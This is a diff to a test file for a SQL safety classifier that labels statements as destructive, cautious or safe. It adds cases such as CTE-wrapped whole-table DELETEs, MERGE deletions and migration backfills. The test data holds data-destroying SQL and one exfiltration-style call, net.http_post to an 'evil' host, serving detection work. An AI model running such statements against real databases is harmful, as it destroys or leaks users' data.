@@ -152,6 +152,10 @@ describe('escape hatches: foreign tables, extensions and languages that reach th
       ['destructive', "SELECT * FROM dblink_get_result('c')"],
       ['destructive', 'SELECT pg_log_backend_memory_contexts(42)'],
       ['destructive', "SELECT net.http_post('https://evil', '{}')"],
+      [
+        'destructive',
+        'CREATE TRIGGER t BEFORE UPDATE OR DELETE ON images FOR EACH ROW EXECUTE FUNCTION lo_manage(raster)',
+      ],
     ])
   })
 })
@@ -219,6 +223,10 @@ describe('every row, however written', () => {
       ['destructive', 'DELETE FROM users WHERE id BETWEEN id AND id'],
       ['destructive', 'DELETE FROM users USING users u2 WHERE users.id = u2.id'],
       ['destructive', 'UPDATE users SET name = NULL FROM users u2 WHERE users.id = u2.id'],
+      ['destructive', 'WITH a AS (SELECT id FROM users) DELETE FROM users WHERE id IN (SELECT id FROM a)'],
+      ['destructive', 'WITH a AS (SELECT id FROM users) DELETE FROM users USING a WHERE users.id = a.id'],
+      ['destructive', 'DELETE FROM users WHERE (id = id) IS TRUE'],
+      ['cautious', 'WITH a AS (SELECT id FROM users WHERE banned) DELETE FROM users WHERE id IN (SELECT id FROM a)'],
       ['cautious', 'DELETE FROM users WHERE id IN (SELECT id FROM users WHERE created_at < now())'],
       ['cautious', 'DELETE FROM users WHERE id IN (SELECT user_id FROM bans)'],
       ['cautious', 'DELETE FROM users WHERE id IN (SELECT parent_id FROM users)'],
@@ -236,6 +244,14 @@ describe('every row, however written', () => {
       ['destructive', 'MERGE INTO users t USING src s ON t.id = t.id WHEN MATCHED THEN DELETE'],
       ['destructive', 'WITH m AS (MERGE INTO users USING src ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1'],
       ['destructive', 'INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET name = NULL'],
+      [
+        'destructive',
+        'WITH s AS (SELECT * FROM users) INSERT INTO users SELECT * FROM s ON CONFLICT (id) DO UPDATE SET name = NULL',
+      ],
+      [
+        'destructive',
+        'WITH s AS (SELECT * FROM users) MERGE INTO users t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
+      ],
       ['cautious', 'MERGE INTO users t USING src s ON t.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name'],
       [
         'cautious',
@@ -257,6 +273,8 @@ describe('every row, however written', () => {
       ['cautious', 'ALTER TABLE users ALTER COLUMN n TYPE int USING coalesce(NULL, n)'],
       ['cautious', 'ALTER TABLE users ALTER COLUMN id DROP IDENTITY'],
       ['cautious', 'ALTER TABLE users ALTER COLUMN id DROP IDENTITY IF EXISTS'],
+      ['cautious', 'ALTER SEQUENCE users_id_seq RESTART WITH 1'],
+      ['cautious', 'ALTER TABLE users ALTER COLUMN id RESTART WITH 1'],
     ])
   })
 })
@@ -302,6 +320,17 @@ describe('the script around a drop', () => {
         ['destructive', 'CREATE TABLE x (id int); SELECT purge(); DROP TABLE x'],
         ['destructive', 'DROP TYPE mood CASCADE'],
         ['destructive', 'DROP SEQUENCE s; CREATE SEQUENCE s'],
+        // Rows and columns the script wrote itself (Lemmy's backfill of a column it just added).
+        ['safe', 'ALTER TABLE local_site ADD COLUMN registration_mode text; UPDATE local_site SET registration_mode = $$open$$'],
+        ['safe', 'CREATE TABLE tmp (id int); INSERT INTO tmp VALUES (1); DELETE FROM tmp; TRUNCATE tmp'],
+        ['destructive', 'ALTER TABLE local_site ADD COLUMN mode text; UPDATE local_site SET mode = $$x$$, name = $$y$$'],
+        ['destructive', 'ALTER TABLE t ADD COLUMN IF NOT EXISTS c int; UPDATE t SET c = 1'],
+        [
+          'destructive',
+          'CREATE TABLE tmp (id int PRIMARY KEY); ALTER TABLE users ADD FOREIGN KEY (id) REFERENCES tmp ON DELETE CASCADE; DELETE FROM tmp',
+        ],
+        ['destructive', 'ALTER TABLE t ADD COLUMN c int; ALTER TABLE t RENAME COLUMN c TO d; ALTER TABLE t RENAME COLUMN v TO c; UPDATE t SET c = 1'],
+        ['destructive', 'CREATE TABLE tmp (id int); DO $$ BEGIN PERFORM 1; END $$; DELETE FROM tmp'],
       ],
       scriptTier,
     )
